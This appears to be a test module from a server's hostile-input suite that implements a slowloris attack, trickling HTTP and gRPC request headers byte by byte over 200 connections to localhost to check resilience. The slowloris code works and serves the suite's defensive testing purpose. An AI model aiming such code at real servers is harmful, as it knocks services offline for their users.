"""Requests whose heads arrive byte by byte, on both frontends."""

from __future__ import annotations

import socket
import time
from contextlib import ExitStack, suppress
from typing import TYPE_CHECKING

from tests.hostile.attack import Attack, Findings
from tests.hostile.http2 import HEADERS, PREFACE, SETTINGS, call_headers, frame

if TYPE_CHECKING:
    from tests.hostile.attack import Target

__all__ = ["SlowHeads"]

_NUM_CONNECTIONS = 200
_EVERY_S = 0.2
_HTTP = b"POST /v1/completions HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 4000
_GRPC = (
    PREFACE
    + frame(SETTINGS, 0, 0)
    + frame(HEADERS, 0, 1, call_headers("/grpc.health.v1.Health/Check", {"x": "a" * 4000}))
)


class SlowHeads(Attack):
    """A byte of each head at a time (slowloris)."""

    name = "slow heads"

    def run(self, target: Target, seconds: float) -> Findings:
        """Send to all connections in turns."""
        end_s = time.monotonic() + seconds
        with ExitStack() as stack:
            connections = []
            for index in range(_NUM_CONNECTIONS):
                port, head = (target.http_port, _HTTP) if index % 2 else (target.grpc_port, _GRPC)
                connection = socket.create_connection(("127.0.0.1", port), 10.0)
                connections.append((stack.enter_context(connection), head))
            num_sent = 0
            while time.monotonic() < end_s:
                for connection, head in connections:
                    with suppress(OSError):
                        connection.send(head[num_sent : num_sent + 1])
                num_sent += 1
                time.sleep(_EVERY_S)
        return Findings(figures={"connections": _NUM_CONNECTIONS, "bytes each": num_sent})
